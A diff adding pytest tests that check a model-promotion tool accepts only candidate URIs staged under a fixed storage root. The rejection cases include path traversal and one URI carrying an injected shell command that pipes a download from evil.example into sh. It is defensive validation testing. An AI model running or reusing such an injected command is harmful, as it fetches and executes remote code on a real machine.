@@ -59,3 +59,30 @@ def test_a_monitoring_state_missing_a_field_is_named_with_its_recovery(tmp_path)
     tenant.state_path(MONITORING).write_text(json.dumps(record))
     with pytest.raises(StateDamaged, match="monitoring configuration without drift_thresholds"):
         monitoring.current()
+
+
+ROOT = "gs://census-ml-staging-models/census-income/candidates"
+
+
+def test_a_deploy_takes_only_a_candidate_staged_under_the_root():
+    from promotion.domain.layout import candidate_under
+
+    assert candidate_under(f"{ROOT}/run-1/", ROOT).uri == f"{ROOT}/run-1"
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "gs://census-ml-prod-models/census-income/candidates/run-1",  # another bucket
+        f"{ROOT}/run-1/../../other",  # out of the folder
+        f"{ROOT}/run-1; curl evil.example | sh",  # a message's text is not a command
+        f"{ROOT}/",  # no run
+        f"{ROOT}/a/b",
+    ],
+)
+def test_anything_else_is_refused_naming_the_expected_prefix(uri):
+    from kernel.errors import UserError
+    from promotion.domain.layout import candidate_under
+
+    with pytest.raises(UserError, match=r"not a staged candidate; expected gs://census-ml-stag"):
+        candidate_under(uri, ROOT)
